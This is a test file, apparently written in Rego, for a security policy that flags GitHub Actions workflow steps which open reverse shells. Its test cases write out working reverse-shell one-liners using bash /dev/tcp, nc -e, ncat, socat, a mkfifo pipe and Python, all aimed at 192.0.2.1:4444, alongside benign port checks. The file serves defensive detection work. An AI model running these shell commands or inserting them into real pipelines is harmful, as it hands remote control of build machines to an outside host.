package guard.policies.github.reverse_shell_test

import data.guard.lib.github.example
import data.guard.policies.github.reverse_shell as policy

_found(scripts) := {violation.path[3] |
	violations := policy.deny with input as example.steps("push", [{"run": script} | some script in scripts])
	some violation in violations
}

test_denies_a_shell_on_a_socket if {
	violations := policy.deny with input as example.steps("push", [{"run": "make\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"}])

	violations == {{
		"message": "the script connects a shell with the network",
		"path": ["jobs", "build", "steps", 0, "run", 1],
		"resource": ".github/workflows/ci.yml",
	}}
}

test_denies_every_way_to_open_one if {
	_found([
		"nc -e /bin/sh 192.0.2.1 4444",
		"ncat 192.0.2.1 4444 --exec /bin/bash",
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f",
		"socat tcp:192.0.2.1:4444 exec:/bin/bash",
		"python -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
	]) == {0, 1, 2, 3, 4}
}

test_allows_checks_of_ports if {
	_found([
		"timeout 5 bash -c '</dev/tcp/localhost/5432'",
		"nc -z localhost 5432",
		"until nc -zv db 5432; do sleep 1; done",
		"bash -i -c 'make'",
	]) == set()
}
